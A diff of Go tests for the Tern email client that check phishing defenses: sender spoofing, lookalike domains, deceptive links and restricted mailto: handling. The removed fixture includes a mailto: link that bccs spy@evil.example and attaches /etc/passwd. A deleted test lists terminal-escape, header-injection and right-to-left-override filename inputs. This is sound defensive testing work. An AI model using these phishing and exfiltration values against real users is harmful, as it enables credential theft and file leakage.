@@ -8,6 +8,7 @@ import (
 	"fyne.io/fyne/v2/dialog"
 	"fyne.io/fyne/v2/widget"
 
+	"github.com/tern-mail/tern/internal/hostile"
 	"github.com/tern-mail/tern/storage/message"
 )
 
@@ -17,7 +18,7 @@ func TestListShowsTheRealSender(t *testing.T) {
 		{"PayPal <service@paypal.com>", "evil@attacker.example", "⚠ PayPal <service@paypal.com> (evil@attacker.example)"},
 		{"service@paypal.com", "evil@attacker.example", "⚠ service@paypal.com (evil@attacker.example)"},
 		{"bob@example.org", "bob@example.org", "bob@example.org (bob@example.org)"},
-		{"paypal.com", "x@p\u0430ypal.com", "paypal.com (x@xn--pypal-4ve.com)"},
+		{"paypal.com", "x@p\u0430ypal.com", "⚠ paypal.com (x@xn--pypal-4ve.com)"}, // a lookalike host is another domain
 		{"", "x@p\u0430ypal.com", "x@xn--pypal-4ve.com"},
 		{"Line\nTo: boss@example.org", "a@example.org", "⚠ Line To: boss@example.org (a@example.org)"},
 	}
@@ -28,11 +29,9 @@ func TestListShowsTheRealSender(t *testing.T) {
 	}
 }
 
-const phishing = "From: \"PayPal <service@paypal.com>\" <evil@attacker.example>\r\nReply-To: refunds@elsewhere.example\r\n" +
-	"Subject: Your account\r\nDate: Tue, 03 Nov 2026 09:30:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" +
-	"<p>Sign in at <a href=\"https://evil.example/login\">https://www.paypal.com/signin</a>, " +
-	"read <a href=\"https://help.example.org/faq\">our help</a>, visit <a href=\"https://p\u0430ypal.com/\">https://p\u0430ypal.com/</a> " +
-	"or <a href=\"mailto:support@example.org?subject=Help&cc=boss@example.org&bcc=spy@evil.example&attach=/etc/passwd&body=Hi%0Athere\">write</a>.</p>\r\n"
+// phishing is the corpus's phishing message: a spoofed sender, a
+// Reply-To elsewhere, deceptive and lookalike links and a greedy mailto:.
+var phishing = string(hostile.PhishingLinks())
 
 func TestReaderShowsWhereThingsReallyGo(t *testing.T) {
 	w, _, _ := windowWith(t, phishing)
@@ -60,7 +59,7 @@ func TestReaderShowsWhereThingsReallyGo(t *testing.T) {
 	}
 
 	body := w.reader.body.String()
-	for _, want := range []string{"[⚠ goes to evil.example] https://www.paypal.com/signin", "[help.example.org] our help", "[xn--pypal-4ve.com] https://p\u0430ypal.com/"} {
+	for _, want := range []string{"[⚠ goes to attacker.example] https://www.paypal.com/signin", "[help.example.org] our help", "[xn--pypal-4ve.com] https://p\u0430ypal.com/"} {
 		if !strings.Contains(body, want) {
 			t.Errorf("reader lacks %q:\n%s", want, body)
 		}
@@ -81,11 +80,11 @@ func TestReaderShowsWhereThingsReallyGo(t *testing.T) {
 	if len(opened) != 1 {
 		t.Fatal("a deceptive link opened without asking")
 	}
-	if q := overlayText(w.Window()); !strings.Contains(q, "https://evil.example/login") || !strings.Contains(q, "www.paypal.com") {
+	if q := overlayText(w.Window()); !strings.Contains(q, "https://attacker.example/login") || !strings.Contains(q, "www.paypal.com") {
 		t.Fatalf("the question is %q", q)
 	}
 	w.reader.confirm.(*dialog.ConfirmDialog).Confirm()
-	if len(opened) != 2 || opened[1] != "https://evil.example/login" {
+	if len(opened) != 2 || opened[1] != "https://attacker.example/login" {
 		t.Fatalf("after confirming: %v", opened)
 	}
 	// mailto: opens Tern's composer with To, Cc, Subject and Body only.
@@ -138,18 +137,5 @@ func TestMailtoTakesOnlyFourFields(t *testing.T) {
 	}
 	if strings.ContainsAny(d.Subject, "\r\n") {
 		t.Fatalf("subject %q keeps a line break", d.Subject)
-	}
-}
-
-func TestHeaderTextCannotDrawLines(t *testing.T) {
-	for in, want := range map[string]string{
-		"Hi\x1b]0;owned\x07":    "Hi ]0;owned ",
-		"Boss\nTo: everyone":    "Boss To: everyone",
-		"invoice \u202ecod.exe": "invoice cod.exe",
-		"a\u2028b\u2066c\u2069": "a bc",
-	} {
-		if got := cleanLine(in); got != want {
-			t.Errorf("cleanLine(%q) = %q, want %q", in, got, want)
-		}
 	}
 }
